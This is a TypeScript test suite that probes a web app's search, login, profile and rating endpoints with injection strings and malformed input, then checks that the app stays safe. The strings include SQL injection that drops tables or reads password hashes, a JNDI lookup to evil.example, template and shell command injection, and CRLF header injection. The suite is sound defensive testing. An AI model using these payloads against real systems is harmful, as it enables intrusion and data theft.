import { beforeAll, describe, expect, test } from 'vitest';
import { sharedWorld } from '../support/site/live.ts';

const world = sharedWorld();
let member = '';
let [item, own] = [0, 0];
beforeAll(async () => {
  const viewer = await world.person({ username: 'open_sweeper' });
  member = await world.signIn(viewer);
  item = await world.item({ title: 'Open sweep' });
  own = await world.item({ creator: viewer.id, title: 'My own' });
});

const send = (method: string, path: string, json: unknown, as = member) =>
  world.ask(path, { method, json, as });

describe('SQL, wildcards and control characters', () => {
  const pieces = [
    "' or '1'='1",
    "'; drop table users; --",
    '" or ""="',
    "') union select password_hash from users --",
    '\\',
    "\\'; --",
    '%',
    '_',
    '%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%',
    '$1',
    '#{jndi:ldap://evil.example/x}',
    '{{7*7}}',
    '$(touch /tmp/owned)',
    '`id`',
    ':* & !',
    '((((((((((',
    'a'.repeat(100),
    '\u202Egnp.exe',
    '<->',
    "''",
    '-guard -sweep',
    '"guard" or "sweep"',
    '🥋'.repeat(50),
  ];
  test.each(pieces)('a search for %j finds items of that name, or nothing', async (text) => {
    const query = encodeURIComponent(text);
    const people = await world.countOf('users');
    for (const path of ['/discover', '/creators', '/api/content', '/api/creators']) {
      const answer = await world.ask(`${path}?search=${query}`);
      expect(answer.status, path).toBe(200);
      expect(answer.text).not.toMatch(/syntax error|\$argon2|summa_|relation "/);
    }
    expect(await world.countOf('users')).toBe(people);
  });

  test('a wildcard matches itself, not everything', async () => {
    expect((await world.ask('/api/creators?search=%25')).json()).toEqual([]);
    expect((await world.ask('/api/content?search=%25')).json()).toEqual([]);
    expect((await world.ask('/creators/op_n%25sweeper')).status).toBe(404);
  });

  test.each([
    "x' or 1=1 --@example.com",
    '%@example.com',
    'open_sweeper@example.com\0',
    'a@b\r\nBcc: c@d.example',
  ])('no account is found by %j', async (email) => {
    const answer = await send('POST', '/api/login', { email, password: 'x' }, '');
    expect([400, 401, 422]).toContain(answer.status);
  });

  test.each(['user\r\nX-Evil: 1', 'evil\nSet-Cookie: a=b', 'a\u2028b'])(
    'no header is written by a name like %j',
    async (name) => {
      const answer = await send('PATCH', '/api/profile', { firstName: name });
      expect([200, 422]).toContain(answer.status);
      const page = await world.ask('/profile', { as: member });
      expect(page.headers['x-evil']).toBeUndefined();
    },
  );
});

describe('odd text', () => {
  const raw = (
    body: string | Uint8Array,
    type = 'application/json',
    path = '/api/profile',
    method = 'PATCH',
  ) => world.ask(path, { method, body, headers: { 'content-type': type }, as: member });

  test.each([
    ['NUL in JSON', () => raw('{"bio":"a\\u0000b"}'), [400, 422]],
    ['NUL in a form', () => world.post('/profile', new URLSearchParams('bio=a%00b'), { as: member }), [400]],
    ['NUL in a key', () => raw('{"bi\\u0000o":"x"}'), [200, 400, 422]],
    [
      'broken UTF-8 in JSON',
      () => raw(Uint8Array.from([0x7b, 0x22, 0x62, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d])),
      [400],
    ],
    [
      'broken UTF-8 in a form',
      () =>
        world.post(`/content/${item}/rate`, new URLSearchParams('rating=5'), {
          as: member,
          headers: { 'content-type': 'application/x-www-form-urlencoded; charset=shift_jis' },
        }),
      [303, 400],
    ],
    [
      'percent signs that mean nothing',
      () =>
        raw(
          'rating=5&review=%ff%fe%zz',
          'application/x-www-form-urlencoded',
          `/content/${item}/rate`,
          'POST',
        ),
      [303, 400, 403, 422],
    ],
    ['a lone surrogate', () => raw('{"bio":"\\ud800"}'), [200, 400, 422]],
    [
      'a lone surrogate in a review',
      () => send('POST', `/api/content/${item}/rating`, { rating: 5, review: 'a\ud83db' }),
      [200, 400, 422],
    ],
    ['two hundred kB of bio', () => send('PATCH', '/api/profile', { bio: 'a'.repeat(200_000) }), [422]],
    ['a body of a megabyte', () => send('PATCH', '/api/profile', { bio: 'a'.repeat(1_000_000) }), [413]],
    [
      'ten thousand fields',
      () => world.post('/profile', new URLSearchParams('a=1&'.repeat(10_000)), { as: member }),
      [413],
    ],
    ['no body', () => raw(''), [200, 422]],
    ['an empty object', () => raw('{}'), [200]],
    ['half an object', () => raw('{"bio":'), [400]],
    ['a list', () => raw('[]'), [400]],
    ['a text', () => raw('"x"'), [400]],
    ['null', () => raw('null'), [400]],
    ['a number too large', () => send('POST', '/api/reports', { content: 1e20, reason: 'other' }), [422]],
    ['deep JSON', () => raw(`{"bio":${'['.repeat(50_000)}${']'.repeat(50_000)}}`), [400]],
    ['deeper JSON', () => raw(`${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`), [400]],
    ['JSON that calls itself text', () => raw('{"bio":"x"}', 'text/plain'), [415]],
    ['XML', () => raw('<bio/>', 'application/xml'), [415]],
    ['an unknown charset', () => raw('{"bio":"x"}', 'application/json; charset=utf-7'), [200, 400, 415]],
    ['duplicate keys', () => raw('{"bio":"one","bio":"two"}'), [200]],
    ['a byte order mark', () => raw('\ufeff{"bio":"x"}'), [200, 400]],
  ] as [string, () => ReturnType<typeof raw>, number[]][])('%s', async (_name, ask, expected) => {
    const answer = await ask();
    expect(expected).toContain(answer.status);
    expect((await world.ask('/healthz')).status).toBe(200);
  });

  test.each(['\u200b', '\u00a0', '\u3164', '\u2800', '   ', '\t'])(
    'a title of %j is refused',
    async (title) => {
      const answer = await world.post(
        `/content/${own}/edit`,
        { title, category: 'training', tier: 'free' },
        { as: member },
      );
      expect(answer.status).toBe(422);
    },
  );
});
